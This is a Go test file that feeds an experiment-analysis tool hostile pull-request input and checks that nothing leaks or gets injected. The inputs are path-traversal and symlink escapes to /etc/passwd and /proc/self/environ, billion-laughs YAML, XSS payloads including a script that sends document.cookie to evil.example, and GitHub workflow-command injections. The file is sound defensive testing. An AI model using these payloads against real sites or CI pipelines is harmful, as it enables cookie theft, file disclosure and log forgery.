//go:build unix

package check_test

import (
	"bytes"
	"crypto/rand"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"syscall"
	"testing"
	"time"
	"unicode"

	"github.com/experimentos/experimentos/internal/analysis"
	"github.com/experimentos/experimentos/internal/check"
	"github.com/experimentos/experimentos/internal/decision"
	"github.com/experimentos/experimentos/internal/experiment"
	"github.com/experimentos/experimentos/internal/load"
	"github.com/experimentos/experimentos/internal/memo"
	"github.com/experimentos/experimentos/internal/prcomment"
)

// Every file of a pull request is hostile. Each case builds an experiments
// tree in a temporary folder, runs it through check.Run and every renderer
// within a time bound, and searches every output for what must never be
// there: the content of a file outside the root, raw HTML, a mention, a
// workflow command at a line start, a second marker.

const (
	okYAML = "name: Home banner\nhypothesis: A larger banner lifts conversion\nowner: growth-team\nstart: 2026-11-01\nend: 2026-11-14\n"
	okCSV  = "variant,users,conversions,guardrail_error\ncontrol,10000,1200,35\ntreatment,10050,1320,33\n"
	// timeBound is how long one case may take to load, analyze and render.
	timeBound = 5 * time.Second
)

// env is what a case may plant outside the experiments root.
type env struct {
	root    string // the experiments root
	outside string // a folder next to the root, never to be read
	secret  string // path of a file outside the root
	token   string // the secret file's content
}

// exp writes experiments/<id>/experiment.yaml and results.csv; an empty
// string leaves the file out.
func (e env) exp(t *testing.T, id, yaml, csv string) string {
	t.Helper()
	dir := filepath.Join(e.root, filepath.FromSlash(id))
	must(t, os.MkdirAll(dir, 0o755))
	if yaml != "" {
		must(t, os.WriteFile(filepath.Join(dir, "experiment.yaml"), []byte(yaml), 0o644))
	}
	if csv != "" {
		must(t, os.WriteFile(filepath.Join(dir, "results.csv"), []byte(csv), 0o644))
	}
	return dir
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// yamlString quotes s as a YAML double-quoted scalar.
func yamlString(s string) string {
	b, _ := json.Marshal(s) // JSON strings are YAML double-quoted scalars
	return string(b)
}

type hostileCase struct {
	name  string
	build func(t *testing.T, e env)
	opts  check.Options
	// code, when set, must be the code of a Blocked issue on some result:
	// the case is refused, not rendered as data.
	code string
	// forbid are strings no output may contain, besides the common ones.
	forbid []string
	// want is the escaped form the comment must show, proving the string
	// was rendered (neutralised), not dropped.
	want string
}

func hostileCases() []hostileCase {
	// named writes one experiment whose field holds value.
	named := func(field, value string) func(t *testing.T, e env) {
		return func(t *testing.T, e env) {
			f := map[string]string{"name": "Home banner", "hypothesis": "A larger banner lifts conversion", "owner": "growth-team"}
			f[field] = value
			y := "start: 2026-11-01\nend: 2026-11-14\n"
			for _, k := range []string{"name", "hypothesis", "owner"} {
				y += k + ": " + yamlString(f[k]) + "\n"
			}
			e.exp(t, "exp", y, okCSV)
		}
	}
	return []hostileCase{
		{name: "results.csv symlinked to an outside file", code: experiment.CodePathEscape, build: func(t *testing.T, e env) {
			dir := e.exp(t, "exp", okYAML, "")
			must(t, os.Symlink(e.secret, filepath.Join(dir, "results.csv")))
		}},
		{name: "experiment.yaml symlinked to an outside file", code: experiment.CodePathEscape, build: func(t *testing.T, e env) {
			dir := e.exp(t, "exp", "", okCSV)
			must(t, os.Symlink(e.secret, filepath.Join(dir, "experiment.yaml")))
		}},
		{name: "experimentos.yaml symlinked to an outside file", code: experiment.CodePathEscape, build: func(t *testing.T, e env) {
			e.exp(t, "exp", okYAML, okCSV)
			must(t, os.Symlink(e.secret, filepath.Join(e.root, "experimentos.yaml")))
		}},
		{name: "experiment folder symlinked outside", code: experiment.CodePathEscape, build: func(t *testing.T, e env) {
			e.exp(t, "exp", okYAML, okCSV)
			real := filepath.Join(e.outside, "real")
			must(t, os.MkdirAll(real, 0o755))
			must(t, os.WriteFile(filepath.Join(real, "experiment.yaml"), []byte("name: "+e.token+"\n"), 0o644))
			must(t, os.WriteFile(filepath.Join(real, "results.csv"), []byte(okCSV), 0o644))
			must(t, os.Symlink(real, filepath.Join(e.root, "linked")))
		}},
		{name: "symlink loop", code: experiment.CodePathEscape, build: func(t *testing.T, e env) {
			dir := e.exp(t, "exp", okYAML+"data: loop/a/results.csv\n", "")
			must(t, os.Symlink("b", filepath.Join(dir, "a")))
			must(t, os.Symlink("a", filepath.Join(dir, "b")))
			must(t, os.Symlink(".", filepath.Join(dir, "loop")))
		}},
		{name: "data through an inside symlink to outside", code: experiment.CodePathEscape, build: func(t *testing.T, e env) {
			e.exp(t, "exp", okYAML+"data: ../shared/results.csv\n", "")
			must(t, os.Symlink(e.outside, filepath.Join(e.root, "shared")))
			must(t, os.WriteFile(filepath.Join(e.outside, "results.csv"), []byte(okCSV+"# "+e.token+"\n"), 0o644))
		}},
		{name: "data: ../../etc/passwd", code: experiment.CodePathEscape, build: func(t *testing.T, e env) {
			e.exp(t, "exp", okYAML+"data: ../../etc/passwd\n", "")
		}},
		{name: "data: relative path to the outside secret", code: experiment.CodePathEscape, build: func(t *testing.T, e env) {
			dir := e.exp(t, "exp", "", "")
			rel, err := filepath.Rel(dir, e.secret)
			must(t, err)
			must(t, os.WriteFile(filepath.Join(dir, "experiment.yaml"), []byte(okYAML+"data: "+yamlString(filepath.ToSlash(rel))+"\n"), 0o644))
		}},
		{name: "data: absolute path", code: experiment.CodePathEscape, build: func(t *testing.T, e env) {
			e.exp(t, "exp", okYAML+"data: "+yamlString(e.secret)+"\n", "")
		}},
		{name: "data: /proc/self/environ", code: experiment.CodePathEscape, build: func(t *testing.T, e env) {
			e.exp(t, "exp", okYAML+"data: /proc/self/environ\n", "")
		}},
		{name: "FIFO as results.csv", code: experiment.CodePathEscape, build: func(t *testing.T, e env) {
			dir := e.exp(t, "exp", okYAML, "")
			must(t, syscall.Mkfifo(filepath.Join(dir, "results.csv"), 0o644))
		}},
		{name: "FIFO as experiment.yaml", code: experiment.CodePathEscape, build: func(t *testing.T, e env) {
			dir := e.exp(t, "exp", "", okCSV)
			must(t, syscall.Mkfifo(filepath.Join(dir, "experiment.yaml"), 0o644))
		}},
		{name: "100 MB CSV (sparse)", code: experiment.CodeLimitExceeded, build: func(t *testing.T, e env) {
			dir := e.exp(t, "exp", okYAML, okCSV)
			// A sparse file: 100 MB long, nothing allocated; the loader must
			// refuse it by size, not read it.
			must(t, os.Truncate(filepath.Join(dir, "results.csv"), 100<<20))
		}},
		{name: "1,000,000 rows", code: experiment.CodeLimitExceeded, build: func(t *testing.T, e env) {
			e.exp(t, "exp", okYAML, okCSV+strings.Repeat("control,1,1,1\n", 1_000_000))
		}},
		{name: "1,000,000 rows with the size limit raised", code: experiment.CodeLimitExceeded,
			opts: check.Options{Limits: load.Limits{MaxFileBytes: 64 << 20}}, build: func(t *testing.T, e env) {
				e.exp(t, "exp", okYAML, okCSV+strings.Repeat("control,1,1,1\n", 1_000_000))
			}},
		{name: "10,000 columns", code: experiment.CodeLimitExceeded, build: func(t *testing.T, e env) {
			var h strings.Builder
			h.WriteString("variant,users,conversions")
			for i := range 10_000 {
				fmt.Fprintf(&h, ",c%d", i)
			}
			e.exp(t, "exp", okYAML, h.String()+"\ncontrol,10,1\ntreatment,10,1\n")
		}},
		{name: "1 MB field", code: experiment.CodeLimitExceeded, build: func(t *testing.T, e env) {
			e.exp(t, "exp", okYAML, "variant,users,conversions\ncontrol,10,"+strings.Repeat("7", 1_000_000)+"\ntreatment,10,1\n")
		}},
		{name: "billion laughs YAML", code: experiment.CodeLimitExceeded, build: func(t *testing.T, e env) {
			y := "a: &a [lol,lol,lol,lol,lol,lol,lol,lol,lol]\n"
			prev := "a"
			for _, n := range []string{"b", "c", "d", "e", "f", "g", "h", "i"} {
				y += n + ": &" + n + " [" + strings.TrimSuffix(strings.Repeat("*"+prev+",", 9), ",") + "]\n"
				prev = n
			}
			e.exp(t, "exp", "name: laughs\nhypothesis: *i\n"+y, okCSV)
			// The alias is used before its anchor on purpose in one file and
			// after it in the other.
			e.exp(t, "exp2", y+"name: laughs\nhypothesis: *i\n", okCSV)
		}},
		{name: "billion laughs in experimentos.yaml", code: experiment.CodeLimitExceeded, build: func(t *testing.T, e env) {
			y := "a: &a [lol,lol,lol,lol,lol,lol,lol,lol,lol,lol]\n"
			prev := "a"
			for _, n := range []string{"b", "c", "d", "e", "f", "g", "h", "i", "j"} {
				y += n + ": &" + n + " [" + strings.TrimSuffix(strings.Repeat("*"+prev+",", 10), ",") + "]\n"
				prev = n
			}
			e.exp(t, "exp", okYAML, okCSV)
			must(t, os.WriteFile(filepath.Join(e.root, "experimentos.yaml"), []byte(y+"thresholds: *j\n"), 0o644))
		}},
		{name: "10,000-deep nesting", code: experiment.CodeLimitExceeded, build: func(t *testing.T, e env) {
			e.exp(t, "exp", "name: deep\nplan: "+strings.Repeat("[", 10_000)+strings.Repeat("]", 10_000)+"\n", okCSV)
			e.exp(t, "exp2", "name: deep\nplan: "+strings.Repeat("{a: ", 10_000)+"1"+strings.Repeat("}", 10_000)+"\n", okCSV)
		}},
		{name: "NUL bytes", code: experiment.CodeUnreadable, build: func(t *testing.T, e env) {
			e.exp(t, "exp", okYAML, "variant,users,conversions\ncontrol,10\x00000,1\ntreatment,10000,1\n")
			e.exp(t, "exp2", "name: a\x00b\n", okCSV)
		}},
		{name: "invalid UTF-8", build: func(t *testing.T, e env) {
			e.exp(t, "exp", "name: caf\xe9 \xff\xfe\nowner: \xc0\x80\n", "variant,users,conversions\ncontrol\xff,10,1\ntreatment,10,1\n")
			e.exp(t, "exp2", "name: ok \xff\n", okCSV)
		}},
		{name: "name with @org/team", want: "@\u200dacme/security-team", build: named("name", "ping @acme/security-team and @octocat")},
		{name: "owner with @mention", build: named("owner", "@octocat")},
		{name: "</details> breakout", want: "x&lt;/details&gt;&lt;/details&gt;&lt;details open&gt;", build: named("name", "x</details></details><details open><summary>owned</summary>")},
		{name: "<img onerror>", want: "&lt;img src=x onerror=alert(1)&gt;", build: named("name", "<img src=x onerror=alert(1)>")},
		{name: "<script> hypothesis", build: named("hypothesis", "<script>fetch('https://evil.example/'+document.cookie)</script>")},
		{name: "::add-mask:: name", want: `\::add-mask::ghp`, build: named("name", "::add-mask::"+"ghp_notreallyatoken")},
		{name: "%0A::error:: owner", build: named("owner", "x%0A::error::forged%0D%0A::warning::also")},
		{name: "newline ::set-output hypothesis", build: named("hypothesis", "ok\n::set-output name=decision::launch\n::stop-commands::tok\n")},
		{name: "fake sticky marker", want: "&lt;!-- experimentos:sticky:experiments --&gt; &lt;!--", build: named("name", prcomment.Marker("experiments")+"\n"+prcomment.Marker("experiments"))},
		{name: "70,000-character hypothesis", code: experiment.CodeLimitExceeded, build: named("hypothesis", strings.Repeat("<b>@all</b> | ", 5000))},
		{name: "70,000-character hypothesis within a raised text limit", opts: check.Options{Limits: load.Limits{MaxTextBytes: 1 << 20}},
			build: named("hypothesis", strings.Repeat("<b>@all</b> | ", 5000))},
		{name: "column named <b>x</b>", build: func(t *testing.T, e env) {
			e.exp(t, "exp", okYAML+"primary: {metric: \"<b>x</b>\", label: \"<b>x</b>|a|b\"}\n",
				"variant,users,<b>x</b>\ncontrol,10000,1200\ntreatment,10050,1320\n")
			e.exp(t, "exp2", okYAML+"guardrails: [{metric: \"<i>y</i>\"}]\n", okCSV)
		}},
		{name: "bidi override characters", want: "evil x y", build: named("name", "\u202eevil\u202c \u2066x\u2069 \u200fy")},
		{name: "ANSI escape in owner", build: named("owner", "\x1b[2J\x1b]0;pwned\x07")},
		{name: "pipes in a guardrail label", build: func(t *testing.T, e env) {
			e.exp(t, "exp", okYAML+"guardrails: [{metric: guardrail_error, label: \"a|b|c \\\\| d\"}]\n", okCSV)
		}},
		{name: "hostile folder name", code: experiment.CodeBadConfig, build: func(t *testing.T, e env) {
			e.exp(t, "::add-mask::x", okYAML, okCSV)
			e.exp(t, "<img src=x onerror=alert(1)>", okYAML, okCSV)
			e.exp(t, "@octocat", okYAML, okCSV)
		}},
		{name: "hostile stray symlink name", code: experiment.CodePathEscape, build: func(t *testing.T, e env) {
			dir := e.exp(t, "exp", okYAML, okCSV)
			must(t, os.Symlink(e.secret, filepath.Join(dir, "::error::x <script>@octocat")))
			must(t, os.Symlink(e.secret, filepath.Join(e.root, "::warning::orphan")))
		}},
	}
}

func TestHostile(t *testing.T) {
	t.Parallel()
	path := os.Getenv("PATH")
	for _, c := range hostileCases() {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			base := t.TempDir()
			e := env{root: filepath.Join(base, "experiments"), outside: filepath.Join(base, "outside")}
			must(t, os.MkdirAll(e.root, 0o755))
			must(t, os.MkdirAll(e.outside, 0o755))
			buf := make([]byte, 12)
			_, _ = rand.Read(buf)
			e.token = "EXPOS_SECRET_" + hex.EncodeToString(buf)
			e.secret = filepath.Join(e.outside, "secret.txt")
			must(t, os.WriteFile(e.secret, []byte("name: "+e.token+"\nvariant,users\n"+e.token+",1\n"), 0o600))
			c.build(t, e)

			out, rs := runBounded(t, e.root, c.opts)
			if c.code != "" {
				if !blockedWith(rs, c.code) {
					t.Errorf("no Blocked result with a %s issue: %s", c.code, summary(rs))
				}
			}
			if c.want != "" && !strings.Contains(out["comment"], c.want) {
				t.Errorf("comment lacks %q:\n%s", c.want, out["comment"])
			}
			forbid := append([]string{e.token, "root:x:0:0", "EXPOS_SECRET"}, c.forbid...)
			if len(path) > 12 {
				forbid = append(forbid, path) // /proc/self/environ
			}
			for name, text := range out {
				for _, f := range forbid {
					if strings.Contains(text, f) {
						t.Errorf("%s contains %.60q", name, f)
					}
				}
				checkOutput(t, name, text)
			}
		})
	}
}

// runBounded runs check.Run, check.WriteOut and every renderer, failing
// the test when they take longer than timeBound. It returns every output
// by name.
func runBounded(t *testing.T, root string, opts check.Options) (map[string]string, []decision.Result) {
	t.Helper()
	type res struct {
		out map[string]string
		rs  []decision.Result
		err error
	}
	done := make(chan res, 1)
	outDir := filepath.Join(t.TempDir(), "out")
	go func() {
		out := map[string]string{}
		rs, err := check.Run(root, opts)
		if err != nil {
			done <- res{err: fmt.Errorf("check.Run: %w", err)}
			return
		}
		m := memo.Meta{Version: "test", Commit: "0123456789abcdef0123456789abcdef01234567"}
		var b bytes.Buffer
		for _, r := range rs {
			id := r.Report.Experiment.ID
			b.Reset()
			if err := memo.Markdown(&b, r, m); err != nil {
				done <- res{err: err}
				return
			}
			out["markdown "+id] = b.String()
			b.Reset()
			if err := memo.HTML(&b, r, m); err != nil {
				done <- res{err: err}
				return
			}
			out["html "+id] = b.String()
		}
		b.Reset()
		if err := memo.Text(&b, rs, m, false); err != nil {
			done <- res{err: err}
			return
		}
		out["text"] = b.String()
		b.Reset()
		if err := memo.JSON(&b, rs, m); err != nil {
			done <- res{err: err}
			return
		}
		out["json"] = b.String()
		out["comment"] = memo.Comment(prcomment.Marker("experiments"), rs, m, memo.GitHubCommentLimit)
		out["short comment"] = memo.Comment(prcomment.Marker("experiments"), rs, m, 3000)
		if err := check.WriteOut(outDir, rs, m); err != nil {
			done <- res{err: fmt.Errorf("WriteOut: %w", err)}
			return
		}
		done <- res{out: out, rs: rs}
	}()
	select {
	case r := <-done:
		if r.err != nil {
			t.Fatal(r.err)
		}
		if len(r.rs) == 0 {
			t.Fatal("no results")
		}
		// Everything WriteOut wrote is a regular file inside outDir.
		err := filepath.WalkDir(outDir, func(p string, d fs.DirEntry, err error) error {
			if err != nil {
				return err
			}
			if !d.IsDir() && !d.Type().IsRegular() {
				t.Errorf("WriteOut made a non-regular file %s", p)
			}
			if !d.IsDir() {
				b, err := os.ReadFile(p)
				if err != nil {
					return err
				}
				rel, _ := filepath.Rel(outDir, p)
				r.out["file "+filepath.ToSlash(rel)] = string(b)
			}
			return nil
		})
		must(t, err)
		return r.out, r.rs
	case <-time.After(timeBound):
		t.Fatalf("loading and rendering took longer than %v", timeBound)
	}
	return nil, nil
}

func blockedWith(rs []decision.Result, code string) bool {
	for _, r := range rs {
		if r.Report.Health.Status != analysis.Blocked || r.Decision.Outcome != experiment.Hold {
			continue
		}
		for _, is := range r.Report.Health.Issues {
			if is.Code == code && is.Severity == experiment.SeverityBlocked && is.Message != "" {
				return true
			}
		}
	}
	return false
}

func summary(rs []decision.Result) string {
	var b strings.Builder
	for _, r := range rs {
		fmt.Fprintf(&b, "\n  %q %s:", r.Report.Experiment.ID, r.Report.Health.Status)
		for _, is := range r.Report.Health.Issues {
			fmt.Fprintf(&b, " [%s %s %.80q]", is.Severity, is.Code, is.Message)
		}
	}
	return b.String()
}

var (
	mentionRE = regexp.MustCompile(`@[A-Za-z0-9]`)
	tagRE     = regexp.MustCompile(`<(/?)([A-Za-z!][A-Za-z0-9-]*)`)
	// Tags the Markdown memo and the comment write themselves.
	markdownTags = map[string]bool{"details": true, "summary": true, "sub": true, "br": true}
	// Tags in a user string that must never reach HTML raw.
	htmlForbidden = []string{"<script", "<img", "<b>", "<i>", "<iframe", "<!--", "<summary>owned", "javascript:"}
)

// checkOutput applies the rules for one output by its kind (the name's
// first word).
func checkOutput(t *testing.T, name, text string) {
	t.Helper()
	kind, _, _ := strings.Cut(name, " ")
	if kind == "file" {
		switch filepath.Ext(name) {
		case ".md":
			kind = "markdown"
		case ".html":
			kind = "html"
		default:
			kind = "json"
		}
	}
	for i, l := range strings.Split(text, "\n") {
		if strings.HasPrefix(strings.TrimLeftFunc(l, unicode.IsSpace), "::") {
			t.Errorf("%s line %d is a workflow command: %.80q", name, i+1, l)
		}
	}
	if kind != "json" {
		for _, r := range text {
			if r != '\n' && unicode.IsControl(r) || r >= '\u202a' && r <= '\u202e' || r >= '\u2066' && r <= '\u2069' || r == '\u200f' || r == '\u200e' {
				t.Errorf("%s has control or bidi character %U", name, r)
				break
			}
		}
	}
	switch kind {
	case "markdown", "comment", "short":
		isComment := kind != "markdown"
		marker := prcomment.Marker("experiments")
		if isComment {
			if first, _, _ := strings.Cut(text, "\n"); first != marker {
				t.Errorf("%s: first line %q, want the marker", name, first)
			}
			if n := strings.Count(text, marker); n != 1 {
				t.Errorf("%s: marker appears %d times", name, n)
			}
			if n := strings.Count(text, "<!--"); n != 1 {
				t.Errorf("%s: %d HTML comments, want only the marker", name, n)
			}
			if n := len([]rune(text)); n > memo.GitHubCommentLimit {
				t.Errorf("%s: %d characters, over GitHub's limit", name, n)
			}
		} else if strings.Contains(text, "<!--") {
			t.Errorf("%s: HTML comment in a memo", name)
		}
		for _, m := range tagRE.FindAllStringSubmatch(text, -1) {
			if m[2] != "!--" && !markdownTags[strings.ToLower(m[2])] {
				t.Errorf("%s: raw tag <%s%s>", name, m[1], m[2])
			}
		}
		if open, closed := strings.Count(text, "<details"), strings.Count(text, "</details>"); open != closed {
			t.Errorf("%s: <details> opened %d times, closed %d", name, open, closed)
		}
		if m := mentionRE.FindString(text); m != "" {
			t.Errorf("%s: unescaped mention %q", name, m)
		}
		checkTables(t, name, text)
	case "html":
		lower := strings.ToLower(text)
		for _, f := range htmlForbidden {
			if strings.Contains(lower, f) {
				t.Errorf("%s contains raw %q", name, f)
			}
		}
	case "json":
		if !json.Valid([]byte(text)) {
			t.Errorf("%s is not valid JSON", name)
		}
	case "text":
		if strings.Contains(text, "\x1b") {
			t.Errorf("%s has an escape sequence", name)
		}
	}
}

// checkTables checks that every row of every Markdown table has as many
// cells as its header: no user string splits a cell.
func checkTables(t *testing.T, name, md string) {
	t.Helper()
	header := -1
	inCode := false
	for i, l := range strings.Split(md, "\n") {
		if strings.HasPrefix(l, "```") {
			inCode = !inCode
			continue
		}
		if inCode || !strings.HasPrefix(l, "|") {
			header = -1
			continue
		}
		n := cellCount(l)
		if header < 0 {
			header = n
			continue
		}
		if n != header {
			t.Errorf("%s line %d: %d cells, header has %d: %.100q", name, i+1, n, header, l)
		}
	}
}

func cellCount(row string) int {
	n := 0
	for i := 0; i < len(row); i++ {
		switch row[i] {
		case '\\':
			i++
		case '|':
			n++
		}
	}
	return n - 1
}

func TestHostileCaseCount(t *testing.T) {
	t.Parallel()
	if n := len(hostileCases()); n < 25 {
		t.Errorf("%d hostile cases, want at least 25", n)
	}
}
